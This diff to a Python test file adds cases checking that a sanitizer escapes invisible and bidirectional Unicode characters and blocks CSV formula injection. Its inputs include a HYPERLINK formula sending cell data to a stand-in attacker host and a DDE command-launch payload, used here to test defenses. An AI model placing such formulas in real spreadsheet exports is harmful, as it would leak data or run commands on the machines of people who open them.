@@ -28,6 +28,30 @@ def test_clean(text, shown):
     assert sanitize.clean(shown) == shown
 
 
+@pytest.mark.parametrize("char", ["\u202a", "\u202e", "\u2066", "\u2069", "\u200b", "\u200f",
+                                  "\u2060", "\u2064", "\ufeff", "\u061c"])
+def test_bidirectional_and_zero_width_characters_are_shown_escaped(char):
+    shown = sanitize.clean(f"score{char}001")
+    assert shown == f"score\\u{ord(char):04x}001" and char not in shown
+    assert sanitize.clean(shown) == shown
+
+
+@pytest.mark.parametrize("text, cell", [
+    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\n=1+1"),              # a carriage return, then cleaned
+    ("\x1b[2J=1", "\\x1b[2J=1"),        # escaped, so no longer a formula's start
+    ("Ann O'Neil", "Ann O'Neil"),
+    ("-5", "-5"), ("+2.5e3", "+2.5e3"),  # a number, as a spreadsheet reads it
+    (-5.0, -5.0), (3, 3), (True, True), (None, None),
+])
+def test_a_csv_cell_is_never_a_formula_and_numbers_stay_numbers(text, cell):
+    assert sanitize.csv_cell(text) == cell
+
+
 def test_clean_tree_cleans_keys_and_values_and_keeps_numbers():
     tree = {"k\x1b": ["\ud800", 1, 2.5, None, True, {"x": "\x00"}]}
     assert sanitize.clean_tree(tree) == {"k\\x1b": ["\ufffd", 1, 2.5, None, True, {"x": "\\x00"}]}
